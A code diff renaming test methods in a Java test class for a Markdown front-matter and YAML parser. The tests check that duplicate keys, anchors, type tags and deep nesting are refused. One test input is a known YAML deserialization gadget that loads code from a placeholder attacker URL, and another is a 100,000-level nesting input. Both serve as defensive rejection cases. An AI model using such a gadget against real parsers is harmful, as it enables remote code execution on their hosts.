@@ -55,7 +55,7 @@ class FrontMatterTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"---\na: 1\n---", "---\na: 1\n---\n", "---  \na: 1\n---  \n", "---\na: 1\n...\n"})
-    void theMarkdownMayBeAbsent(String text) {
+    void markdown_absent_isEmpty(String text) {
         assertThat(markdown(text).text("a")).contains("1");
         assertThat(markdown(text).body()).isEmpty();
     }
@@ -100,14 +100,14 @@ class FrontMatterTest {
                 "---",
                 "--- title: x\na: 1\n---\n"
             })
-    void aFileWithoutFrontMatterIsSaid(String text) {
+    void file_withoutFrontMatter_isReported(String text) {
         assertInvalid(Problems.of(() -> markdown(text)), 1, "has no front matter in its first line");
         assertThat(FrontMatter.isIn(text.getBytes(StandardCharsets.UTF_8))).isFalse();
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"---\n", "---\na: 1\n", "---\na: 1\n ---\n", "---\na: 1\n--- x\n"})
-    void frontMatterThatDoesNotEndIsSaid(String text) {
+    void frontMatter_withoutAnEnd_isReported(String text) {
         assertInvalid(Problems.of(() -> markdown(text)), 1, "has front matter that does not end");
         assertThat(FrontMatter.isIn(text.getBytes(StandardCharsets.UTF_8))).isTrue();
     }
@@ -165,13 +165,13 @@ class FrontMatterTest {
                 "{a: 1} | {\"a\":1}",
                 "a b # comment | \"a b\""
             })
-    void onlyPlainDecimalIntegersAndTrueAndFalseAreNoText(String yaml, String json) {
+    void scalar_decimalOrBoolean_isNotAText(String yaml, String json) {
         assertThat(value(yaml).toString()).isEqualTo(json);
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"", "~", "null"})
-    void aKeyWithoutAValueIsAbsent(String nothing) {
+    void key_withoutAValue_isAbsent(String nothing) {
         FrontMatter read = yaml("a: " + nothing + "\nb: 1\n");
 
         assertThat(read.keys().entries()).containsOnlyKeys("b");
@@ -237,7 +237,7 @@ class FrontMatterTest {
                 "x: 1\\na: @at | 3",
                 "x: 1\\na: \\u0001 | 3"
             })
-    void whatIsNotYamlIsSaidWithItsLine(String text, int line) {
+    void yaml_invalid_isReportedWithItsLine(String text, int line) {
         String yaml = text.replace("\\n", "\n").replace("\\t", "\t").replace("\\u0001", "\u0001");
         Problem problem = Problems.of(() -> markdown("---\n" + yaml + "\n---\n"));
 
@@ -247,7 +247,7 @@ class FrontMatterTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"- a\n- b\n", "just words\n", "12\n", "'quoted'\n"})
-    void whatIsNoMappingIsSaid(String text) {
+    void yaml_notAMapping_isReported(String text) {
         assertInvalid(Problems.of(() -> markdown("---\n" + text + "---\n")), 2, "must be a mapping of keys to values");
     }
 
@@ -258,7 +258,7 @@ class FrontMatterTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"a: 1\nb: 2\na: 3\n", "a:\nb: 2\na: 3\n", "a: 1\nb: 2\na:\n", "a: 1\nb: 2\n'a': 3\n"})
-    void aKeyThatIsThereTwiceIsSaid(String text) {
+    void key_duplicate_isReported(String text) {
         assertInvalid(Problems.of(() -> yaml(text)), 3, "has the key \"a\" twice");
     }
 
@@ -269,7 +269,7 @@ class FrontMatterTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"a: 1\nb: &x [1]\n", "a: 1\nb: &x {c: 1}\n", "a: &x y\nb: *x\n", "l:\n- &x [1]\n"})
-    void anAnchorOrAliasIsRefused(String text) {
+    void anchorOrAlias_read_isRefused(String text) {
         Problem problem = Problems.of(() -> yaml(text));
 
         assertThat(problem.what()).isEqualTo("has an anchor or alias (& or *)");
@@ -303,7 +303,7 @@ class FrontMatterTest {
                 "a: 1\nb: !own {c: 1}\n",
                 "a: 1\nb: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]\n"
             })
-    void aTypeTagIsRefused(String text) {
+    void typeTag_read_isRefused(String text) {
         assertInvalid(Problems.of(() -> yaml(text)), 2, "has a type tag (!)");
     }
 
@@ -321,7 +321,7 @@ class FrontMatterTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"[", "{a: "})
-    void nestingOfAHundredThousandIsRefusedAsAProblem(String open) {
+    void nesting_ofAHundredThousand_isRefused(String open) {
         assertThat(Problems.of(() -> yaml("a: " + open.repeat(100_000))).code())
                 .isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
     }
